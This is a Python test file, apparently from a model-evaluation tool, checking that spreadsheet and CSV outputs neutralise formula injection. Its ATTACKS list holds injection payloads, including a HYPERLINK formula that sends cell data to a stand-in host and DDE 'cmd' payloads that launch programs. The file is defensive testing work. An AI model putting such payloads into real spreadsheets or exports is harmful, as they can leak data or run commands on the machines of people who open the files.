"""No text of data, models or judges is a formula in what we write: workbooks, also saved as CSV, and comparison.csv."""

from __future__ import annotations

import csv
import dataclasses
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from PIL import Image

from tests.report.sweep import make_sweep
from vlm_eval.comparison import Run, write_comparison
from vlm_eval.judges.base import JudgeRequest
from vlm_eval.judges.people import SCORE, PeopleJudge, PeopleJudgeConfig, key_of
from vlm_eval.rating_workbook import Text, write
from vlm_eval.report.write import write_report
from vlm_eval.rows import Answer, Item
from vlm_eval.store import RunFolder
from vlm_eval.tables import neutral

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "- Войти",
]
PLAIN = ["-5", "+5", "-0.25", "-1e-3", "1", "Чат", "", "a=b", "'quoted'", "«- a»"]


def starts_a_formula(cell: str) -> bool:
    return cell.strip()[:1] in tuple("=+-@＝＋－＠") or cell[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("text", ATTACKS)
def test_neutral(text):
    assert neutral(text) == f"'{text}" and not starts_a_formula(neutral(text))


@pytest.mark.parametrize("text", PLAIN)
def test_left_as_it_is(text):
    assert neutral(text) == text


@given(st.one_of(st.text(), st.text("=+-@\t\r\n 0123456789.e＝'", max_size=8)))
def test_any_text(text):
    cell = neutral(text)
    assert cell.removeprefix("'") == text.removeprefix("'") and cell.endswith(text)
    if starts_a_formula(cell.replace("\N{NO-BREAK SPACE}", "")):
        float(cell.replace(",", "."))


def test_comparison_csv(tmp_path):
    runs = [
        Run(f"run{n}", "failed", attack, {"model": attack, "run.seed": "-5"}, {"judge/match_ratio": -0.5}, {}, {})
        for n, attack in enumerate(ATTACKS)
    ]
    write_comparison(tmp_path, runs)
    with open(tmp_path / "comparison.csv", encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    for row, attack in zip(rows, ATTACKS, strict=True):
        assert row["error"] == row["model"] == f"'{attack}"
        assert float(row["judge/match_ratio"]) == -0.5 and row["run.seed"] == "-5"


def as_csv(book: Path, out: Path) -> dict[str, list[list[str]]]:
    """What LibreOffice saves each sheet of a workbook as: sheet -> rows."""
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = [shutil.which("soffice") or "libreoffice", f"-env:UserInstallation={(out / 'profile').as_uri()}"]
    command += ["--headless", "--convert-to", every_sheet, "--outdir", str(out), str(book)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    sheets = {}
    for file in out.glob(f"{book.stem}-*.csv"):
        with open(file, encoding="utf-8", newline="") as table:
            sheets[file.stem.removeprefix(f"{book.stem}-")] = list(csv.reader(table))
    return sheets


@pytest.mark.needs("soffice")
def test_the_reports_workbooks_and_what_they_become_as_csv(tmp_path):
    folder = make_sweep(
        tmp_path / "s", items=len(ATTACKS), texts={f"item/{n}": attack for n, attack in enumerate(ATTACKS)}
    )
    run = RunFolder(folder / "demo-bf16-vqa")
    said = [dataclasses.replace(j, rationale=ATTACKS[0], judge="stern") for j in run.read("judgements")]
    run.replace("judgements", said)
    out = write_report(folder, language="en")
    for name in ("summary_test_stats", "judgement_scores"):
        for sheet in load_workbook(out / f"{name}.xlsx"):
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f" or cell.value.startswith('=HYPERLINK("screenshots/'), cell.value
        sheets = as_csv(out / f"{name}.xlsx", tmp_path)
        seen = [cell for rows in sheets.values() for row in rows for cell in row]
        assert len(sheets) == 2 and "'- Войти" in seen and f"'{ATTACKS[0]}" in seen
        assert [
            cell for cell in seen if starts_a_formula(cell) and not cell.lstrip("-").replace(".", "").isdigit()
        ] == []


@pytest.mark.needs("soffice")
def test_the_rating_workbook_as_csv_still_finds_its_answers(tmp_path):
    Image.new("RGB", (60, 90)).save(tmp_path / "a.png")
    items = [Item(f"i{n}", "a.png", "a.png", attack, None, image_sha256="0") for n, attack in enumerate(ATTACKS)]
    texts = [Text(key_of(item, item.question), tmp_path / "a.png", item.question, item.question) for item in items]
    write(texts, tmp_path / "ratings.xlsx", "people.ru.txt")
    book = load_workbook(tmp_path / "ratings.xlsx")
    sheet = book.worksheets[0]
    head = [cell.value for cell in sheet[1]]
    for number, row in enumerate(sheet.iter_rows(min_row=2)):
        assert {row[head.index(name)].data_type for name in ("question", "answer")} == {"s"}
        row[head.index(SCORE)].value = number % 10 + 1
    book.save(tmp_path / "ratings.xlsx")
    sheets = as_csv(tmp_path / "ratings.xlsx", tmp_path)
    assert [cell for rows in sheets.values() for row in rows for cell in row if starts_a_formula(cell)] == []
    with open(tmp_path / "back.csv", "w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(sheets["ratings"])
    judge = PeopleJudge(PeopleJudgeConfig(path=str(tmp_path / "back.csv")))
    requests = [
        JudgeRequest(item, Answer(item.item_id, 0, "a.png", item.question), None, frozenset()) for item in items
    ]
    found = [row for rows in judge.judge(requests) for row in rows]
    assert [row.candidate_score for row in found] == [n % 10 + 1 for n in range(len(items))]
